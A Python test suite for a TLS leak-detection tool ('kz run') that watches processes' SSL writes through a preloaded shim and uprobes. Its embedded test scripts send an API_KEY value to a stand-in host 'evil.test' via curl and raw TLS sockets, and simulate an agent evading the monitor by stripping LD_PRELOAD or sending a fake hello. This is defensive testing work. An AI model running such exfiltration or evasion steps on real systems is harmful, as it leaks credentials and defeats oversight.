"""The default witnesses of `kz run` (docs/sensors.md): each TLS write is inspected once,
by the cheapest witness that can see it. End to end, as root, with real clients and a
real TLS server on loopback:

* standard mode: the shim is preloaded and witnesses in process; a value written by
  curl or python to a host it is not bound to is a "leak" with via "shim"; with
  --on-leak=kill the write itself fails and nothing reaches the server;
* a child started without the shim (LD_PRELOAD removed) is covered by uprobes
  installed for that process: its leak is recorded via "tls-tap";
* a process outside the run is not touched: the breakpoint (int3) is in the run's
  uncovered process's copy of SSL_write, not in the outside process's; with
  --sensors=full it is in both (the independent witness on every write).

Skipped with `SKIP:` when `kz doctor` reports the TLS tap unavailable.
"""
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, os.path.dirname(__file__))
from kzt import KZ, PY  # noqa: E402
from test_blind_fallback import redirect_available  # noqa: E402
from test_sensors import CANARY, LEAKER, WHY, KillKeepsBoundTraffic, SensorCase  # noqa: E402

# Prints "pid address-of-SSL_write" into the fifo argv[1], then waits for EOF on the
# fifo argv[2] (the test's signal to exit). The address is the process's own libssl's.
HOLDER = r'''
import ctypes, os, ssl, sys
addr = ctypes.cast(ctypes.CDLL("libssl.so.3").SSL_write, ctypes.c_void_p).value
with open(sys.argv[1], "w") as f:
    f.write("%d %d\n" % (os.getpid(), addr))
with open(sys.argv[2]) as f:
    f.read()
'''


# Five requests with the value on one keep-alive connection to localhost (argv[1] is the
# port), then one on a connection that names evil.test (the same server).
KEEPALIVE = r'''
import http.client, os, socket, ssl, sys
port, ca = int(sys.argv[1]), sys.argv[2]
ctx = ssl.create_default_context(cafile=ca)
c = http.client.HTTPSConnection("localhost", port, context=ctx, timeout=20)
for i in range(5):
    c.request("GET", "/v1/keep-%d" % i, headers={"X-Api-Key": os.environ["API_KEY"]})
    r = c.getresponse()
    r.read()
    print(i, r.status, flush=True)
c.close()
loose = ssl.create_default_context(cafile=ca)
loose.check_hostname = False
with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
    with loose.wrap_socket(raw, server_hostname="evil.test") as s:
        s.sendall(b"GET /v1/keep-evil HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: " + os.environ["API_KEY"].encode() +
                  b"\r\nConnection: close\r\n\r\n")
        while s.recv(4096):
            pass
'''


# Under --blind=proxy, to a port that is not redirected (argv[1]): the token to a name it
# is not bound to (evil.test), then the canary's token. Both reach the server unchanged.
UNPROXIED = r'''
import os, socket, ssl, sys
port, ca = int(sys.argv[1]), sys.argv[2]
ctx = ssl.create_default_context(cafile=ca)
ctx.check_hostname = False
for path, header in (("/v1/unproxied", os.environ["API_KEY"]), ("/v1/unproxied", os.environ["OPENAI_API_KEY"])):
    with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
        with ctx.wrap_socket(raw, server_hostname="evil.test") as s:
            s.sendall(("GET %s HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: %s\r\nConnection: close\r\n\r\n"
                       % (path, header)).encode())
            while s.recv(4096):
                pass
'''


# Passes a descriptor of a marker file to kz's witness socket (a process of the run may
# connect to it), waits until kz hangs up, then prints every other process still holding
# the marker: kz must close what it never asked for.
FD_PASSER = r'''
import array, os, socket, sys
marker = sys.argv[1]
fd = os.open(marker, os.O_RDONLY)
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(os.environ["KZ_WITNESS"])
socket.send_fds(s, [b"x" * 64], [fd])
print("hung up" if s.recv(4096) == b"" else "answered")
holders = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        names = os.listdir("/proc/%s/fd" % pid)
    except OSError:
        continue
    for n in names:
        try:
            if os.readlink("/proc/%s/fd/%s" % (pid, n)) == marker:
                holders.append(pid)
        except OSError:
            pass
print("holders:", ",".join(holders) or "none")
'''


# A process of the run without the shim that says hello on the witness socket itself (as
# if it were shim-served), so the kernel would stop probing it, then leaks (LEAKER follows).
FAKE_HELLO = r'''
import os, socket, struct
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(os.environ["KZ_WITNESS"])
s.send(struct.pack("<IIIHBBQ256s64s", 0x6b7a7731, 1, 0, 0, 0, 0, 0, b"", b""))
print("table bytes:", len(s.recv(1 << 20)), flush=True)
'''


def read_ready(path, proc):
    """The line a holder wrote into fifo `path`; "" when `proc` (kz) exits first (then
    nothing will write: a watcher opens the fifo itself, which ends the wait)."""
    def unblock():
        proc.wait()
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass   # no reader any more: the line was read
    threading.Thread(target=unblock, daemon=True).start()
    with open(path) as f:
        return f.read()


def first_byte(pid, addr):
    with open("/proc/%d/mem" % pid, "rb") as f:
        f.seek(addr)
        return f.read(1)[0]


INT3 = 0xCC
NODE = shutil.which("node")
CLIENTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients")


@unittest.skipIf(WHY, "TLS tap %s" % WHY)
class WitnessTest(KillKeepsBoundTraffic, SensorCase):
    def summary(self):
        return self.assertAudited("sensor.summary")[0]

    def test_shim_witnesses_curl_and_python_in_standard_mode(self):
        script = self.write("leaker.py", LEAKER)
        # curl names the unbound host evil.test (SNI) on the same server.
        cmd = ('curl -sS --fail -k --max-time 20 --http1.1 --resolve evil.test:%d:127.0.0.1 '
               '-H "X-Key: $API_KEY" https://evil.test:%d/v1/curl >/dev/null; '
               '%s %s %s/v1/py-leak %s/v1/py-bound "%s"'
               % (self.port, self.port, PY, script, self.evil, self.good, self.ca["ca"]))
        r = self.run_std("/bin/bash", "-c", cmd)
        self.assertEqual(r.returncode, 0, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        by_exe = {os.path.basename(l.get("exe", "")): l for l in leaks}
        self.assertEqual(len(leaks), 2, self.diag(r))
        curl = by_exe["curl"]
        self.assertEqual(curl.get("via"), "shim")
        self.assertEqual(curl.get("host"), "evil.test")
        self.assertEqual(curl.get("function"), "SSL_write")
        self.assertEqual(curl.get("lineage"), ["bash", "curl"])
        py = [l for l in leaks if l is not curl][0]
        self.assertEqual(py.get("via"), "shim")
        self.assertEqual(py.get("host"), "127.0.0.1")
        self.assertEqual(py.get("peer"), self.peer)
        self.assertEqual(py.get("function"), "SSL_write_ex")
        self.assertEqual(py.get("decision"), "audit")
        s = self.summary()
        self.assertEqual(s.get("mode"), "default")
        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 1}, s.get("uses"), s)
        self.assertGreaterEqual(s["witnesses"]["shim"], 3, s)
        self.assertEqual(s["witnesses"]["uprobe"], 0, s)
        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
        self.assertEqual(programs.get("curl"), "shim", s)
        self.assertEqual(programs.get(os.path.basename(PY)), "shim", s)
        self.assertNoCanaryInAudit()

    def test_keep_alive_uses_of_a_bound_host_are_all_counted(self):
        # One connection, five requests with the value to its bound host (by server
        # name), then one to the same server under another name: the first bound use
        # is asked of kz, the other four are counted in process (on the server name
        # alone) and reported at exit; the other name is still a leak.
        script = self.write("keepalive.py", KEEPALIVE)
        r = self.run_std(PY, script, str(self.port), self.ca["ca"])
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertEqual(len(self.records(self.rec, "/v1/keep-")), 6, self.diag(r))
        s = self.summary()
        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 5}, s.get("uses"), s)
        leaks = self.assertAudited("leak", secret="API_KEY")
        self.assertEqual([l.get("host") for l in leaks], ["evil.test"], self.diag(r))
        self.assertNoCanaryInAudit()

    def test_on_leak_kill_refuses_the_write_in_process(self):
        script = self.write("leaker.py", LEAKER)
        r = self.run_std(PY, script, self.evil + "/v1/kill-first", self.evil + "/v1/kill-second", self.ca["ca"],
                         flags=["--on-leak=kill"])
        # The write failed (python raises), the process was not killed.
        self.assertEqual(r.returncode, 1, self.diag(r))
        self.assertIn("Error", r.stderr)
        self.assertEqual(self.records(self.rec, "/v1/kill-"), [], self.diag(r))
        leak = self.assertAudited("leak", secret="API_KEY", decision="kill")
        self.assertEqual(len(leak), 1, self.diag(r))
        self.assertEqual(leak[0].get("via"), "shim")
        self.assertIn("refused", leak[0].get("reason", ""))
        self.assertNoCanaryInAudit()

    def test_blind_child_with_a_stripped_environment_keeps_the_shim_witness(self):
        # env -i drops LD_PRELOAD, KZ_BROKER and KZ_WITNESS; the shim's exec hook puts them
        # back, so curl is witnessed in process and takes no uprobe.
        cmd = ('env -i /usr/bin/curl -sS --fail --max-time 20 --http1.1 --cacert "%s" '
               '-H "Authorization: Bearer $API_KEY" %s/v1/stripped >/dev/null' % (self.ca["ca"], self.good))
        args = ["run", "--blind", "--audit-log", self.audit_path, *self.SENSORS, "--", "/bin/bash", "-c", cmd]
        r = self.kz(*args, env=self.kenv, timeout=120)
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertEqual(len(self.records(self.rec, "/v1/stripped")), 1, self.diag(r))
        s = self.summary()
        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
        self.assertEqual(programs.get("curl"), "shim", s)
        self.assertEqual(s["witnesses"]["uprobe"], 0, s)

    def test_blind_proxy_child_is_witnessed_in_process_not_by_uprobes(self):
        # --blind=proxy: curl's connection goes through kz's proxy, which swaps the token;
        # the shim is preloaded only to witness curl's writes, so curl takes no uprobe
        # trap (the cost issue 16 measured: +44 us per request through the proxy).
        ok, why = redirect_available("ebpf")
        if not ok:
            print("SKIP: ebpf redirect unavailable: %s" % why)
            self.skipTest(why)
        self.blind_config({"API_KEY": {"ref": "KZT_SRC", "hosts": ["localhost"]}},
                          extra="proxy_ports = [%d]\n" % self.port)
        cmd = ('env; echo "--- client output"; curl -sS --fail --max-time 20 --http1.1 '
               '-H "Authorization: Bearer $API_KEY" %s/v1/proxied >/dev/null' % self.good)
        args = ["run", "--blind=proxy", "--audit-log", self.audit_path, *self.SENSORS, "--",
                "/bin/bash", "-c", cmd]
        r = self.kz(*args, env=self.kenv, timeout=120)
        self.assertEqual(r.returncode, 0, self.diag(r))
        recs = self.records(self.rec, "/v1/proxied")
        self.assertEqual(len(recs), 1, self.diag(r))
        self.assertEqual(self.auth_of(recs[0]), "Bearer " + CANARY, self.diag(r))
        env = r.stdout.split("--- client output")[0]
        self.assertRegex(env, r"(?m)^LD_PRELOAD=\S*libkz_preload", self.diag(r))
        self.assertNotIn("KZ_BROKER", env)
        self.assertNotExposed(r.stdout + r.stderr, CANARY, "client output and environment")
        s = self.summary()
        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
        self.assertEqual(programs.get("curl"), "shim", s)
        self.assertGreaterEqual(s["witnesses"]["shim"], 1, s)
        self.assertEqual(s["witnesses"]["uprobe"], 0, s)
        # The witness stands in for the uprobes: it looks for the run's tokens.
        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "token", "writes": 1}, s.get("uses"), s)
        self.assertNoCanaryInAudit()

    def run_unproxied(self, wrap=None):
        """--blind=proxy with the agent's connections on a port the redirect leaves alone
        (the proxy never sees them): UNPROXIED sends the token to an unbound name and a
        canary's token. wrap(argv) may put a command around the agent. Returns the run,
        with both requests checked to have reached the server."""
        ok, why = redirect_available("ebpf")
        if not ok:
            print("SKIP: ebpf redirect unavailable: %s" % why)
            self.skipTest(why)
        other_port, other_rec = self.echo_server("tls")
        self.blind_config({"API_KEY": {"ref": "KZT_SRC", "hosts": ["localhost"]}},
                          extra="proxy_ports = [%d]\n\n[secrets.OPENAI_API_KEY]\ncanary = true\n" % self.port)
        agent = [PY, self.write("unproxied.py", UNPROXIED), str(other_port), self.ca["ca"]]
        args = ["run", "--blind=proxy", "--audit-log", self.audit_path, *self.SENSORS, "--",
                *(wrap(agent) if wrap else agent)]
        r = self.kz(*args, env=self.kenv, timeout=120)
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertEqual(len(self.records(other_rec, "/v1/unproxied")), 2, self.diag(r))
        return r

    def test_blind_proxy_witness_sees_tokens_the_proxy_never_sees(self):
        # The witness (in place of the uprobes) records the token sent to an unbound name
        # as exfil, and a canary's token as a canary.
        r = self.run_unproxied()
        exfil = self.assertAudited("exfil", secret="API_KEY")
        self.assertEqual([(e.get("host"), e.get("via")) for e in exfil], [("evil.test", "shim")], self.diag(r))
        canary = self.assertAudited("canary", secret="OPENAI_API_KEY")
        self.assertEqual(canary[0].get("where"), "witness", self.diag(r))
        self.assertFalse(self.audit_events("swap"), "the proxy saw a connection it should not have")
        s = self.summary()
        self.assertEqual(s.get("exfil"), 1, s)
        self.assertEqual(s["witnesses"]["uprobe"], 0, s)
        self.assertNoCanaryInAudit()

    def test_blind_proxy_agent_that_drops_the_witness_meets_the_uprobes(self):
        # The hostile agent under --blind=proxy removes the shim from its environment (or
        # never had it): its process gets the uprobes at exec, which see the same token.
        r = self.run_unproxied(lambda agent: ["env", "-u", "LD_PRELOAD", "-u", "KZ_WITNESS", *agent])
        exfil = self.assertAudited("exfil", secret="API_KEY")
        self.assertEqual([(e.get("host"), e.get("via")) for e in exfil], [("evil.test", "tls-tap")], self.diag(r))
        self.assertEqual(self.assertAudited("canary", secret="OPENAI_API_KEY")[0].get("where"), "tap", self.diag(r))
        programs = {os.path.basename(p["exe"]): p["witness"] for p in self.summary().get("programs", [])}
        self.assertEqual(programs.get(os.path.basename(PY)), "uprobe", self.diag(r))
        self.assertNoCanaryInAudit()

    def test_a_descriptor_passed_to_the_witness_socket_is_closed(self):
        marker = self.write("marker-file", "")
        script = self.write("fd_passer.py", FD_PASSER)
        r = self.run_std(PY, script, marker)
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertIn("hung up", r.stdout, self.diag(r))
        self.assertIn("holders: none", r.stdout, self.diag(r))

    def test_child_without_the_shim_is_caught_by_uprobes(self):
        script = self.write("leaker.py", LEAKER)
        cmd = 'env -u LD_PRELOAD %s %s %s/v1/a %s/v1/b "%s"' % (PY, script, self.evil, self.good, self.ca["ca"])
        r = self.run_std("/bin/bash", "-c", cmd)
        self.assertEqual(r.returncode, 0, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        self.assertEqual(len(leaks), 1, self.diag(r))
        self.assertEqual(leaks[0].get("via"), "tls-tap")
        self.assertEqual(leaks[0].get("host"), "127.0.0.1")
        self.assertEqual(leaks[0].get("lineage")[-1], os.path.basename(PY))
        s = self.summary()
        self.assertGreaterEqual(s["witnesses"]["uprobe"], 2, s)
        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
        self.assertEqual(programs.get(os.path.basename(PY)), "uprobe", s)
        self.assertEqual(programs.get("bash"), "shim", s)
        self.assertNoCanaryInAudit()

    def test_a_fake_hello_does_not_switch_the_probes_off(self):
        script = self.write("fake_hello.py", FAKE_HELLO + LEAKER)
        cmd = 'env -u LD_PRELOAD %s %s %s/v1/a %s/v1/b "%s"' % (PY, script, self.evil, self.good, self.ca["ca"])
        r = self.run_std("/bin/bash", "-c", cmd)
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertIn("table bytes:", r.stdout, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        self.assertEqual(len(leaks), 1, self.diag(r))
        self.assertEqual(leaks[0].get("via"), "tls-tap")
        programs = {os.path.basename(p["exe"]): p["witness"] for p in self.summary().get("programs", [])}
        self.assertEqual(programs.get(os.path.basename(PY)), "uprobe", self.diag(r))

    @unittest.skipIf(NODE is None, "node is not installed")
    def test_a_program_with_its_own_tls_is_caught_by_uprobes(self):
        # node carries its own OpenSSL: the shim is loaded (and says hello) but node's
        # writes never reach its hooks, so node's own SSL_write gets the uprobes.
        env = dict(self.kenv, NODE_EXTRA_CA_CERTS=self.ca["ca"])
        r = self.kz("run", "--audit-log", self.audit_path, "--", NODE, os.path.join(CLIENTS, "node_client.mjs"),
                    "https", self.evil + "/v1/node", "API_KEY", env=env, timeout=120)
        self.assertEqual(r.returncode, 0, self.diag(r))
        # node writes a request in several SSL_writes, through its own transport: the
        # tap sees no peer (host ""), which no secret is bound to.
        leaks = self.assertAudited("leak", secret="API_KEY")
        self.assertTrue(leaks, self.diag(r))
        for leak in leaks:
            self.assertEqual(leak.get("via"), "tls-tap")
            self.assertEqual(leak.get("exe"), NODE)
            self.assertEqual(leak.get("lineage"), [os.path.basename(NODE)])
        s = self.summary()
        self.assertTrue(any(t.endswith("(its own TLS library)") for t in s.get("taps", [])), s)
        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
        self.assertEqual(programs.get(os.path.basename(NODE)), "uprobe", s)
        self.assertNoCanaryInAudit()

    def breakpoints(self, flags):
        """(run child's first byte of SSL_write, outside process's) while both live."""
        d = tempfile.mkdtemp(dir=self.dir)
        fifos = {}
        for name in ("out-ready", "out-go", "run-ready", "run-go"):
            fifos[name] = os.path.join(d, name)
            os.mkfifo(fifos[name])
        holder = self.write("holder.py", HOLDER)
        outside = subprocess.Popen([PY, holder, fifos["out-ready"], fifos["out-go"]])
        kz = None
        try:
            with open(fifos["out-ready"]) as f:
                out_pid, out_addr = map(int, f.read().split())
            if first_byte(out_pid, out_addr) == INT3:
                # Probes for every process are on the host already (another kz with
                # --sensors=full, or `kz doctor`, at this moment): nothing to tell apart.
                self.skipTest("SKIP: another system-wide uprobe on libssl's SSL_write is active on this host")
            args = ["run", "--audit-log", self.audit_path, *flags, "--", "env", "-u", "LD_PRELOAD",
                    PY, holder, fifos["run-ready"], fifos["run-go"]]
            kz = subprocess.Popen([KZ, *args], env=self.kenv, cwd=self.dir, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE)
            line = read_ready(fifos["run-ready"], kz)
            if not line:
                out, err = kz.communicate(timeout=60)
                self.fail("kz exited %d before its child was ready:\n%s" % (kz.returncode, err.decode()[-2000:]))
            run_pid, run_addr = map(int, line.split())
            # The uprobe is attached on the run's exec, off the child's path: wait for it
            # (bounded; no sleep).
            deadline = 200000
            while first_byte(run_pid, run_addr) != INT3 and deadline > 0:
                os.sched_yield()
                deadline -= 1
            return first_byte(run_pid, run_addr), first_byte(out_pid, out_addr)
        finally:
            for name in ("run-go", "out-go"):
                if name == "run-go" and (kz is None or kz.poll() is not None):
                    continue
                with open(fifos[name], "w"):
                    pass
            outside.wait(timeout=60)
            if kz is not None:
                kz.communicate(timeout=60)

    def test_process_outside_the_run_takes_no_trap(self):
        run_byte, outside_byte = self.breakpoints([])
        self.assertEqual(run_byte, INT3, "the run's process without the shim has no uprobe")
        self.assertNotEqual(outside_byte, INT3, "a process outside the run has the run's breakpoint")

    def test_sensors_full_probes_every_process_of_the_host(self):
        run_byte, outside_byte = self.breakpoints(["--sensors=full"])
        self.assertEqual(run_byte, INT3)
        self.assertEqual(outside_byte, INT3)


if __name__ == "__main__":
    unittest.main()
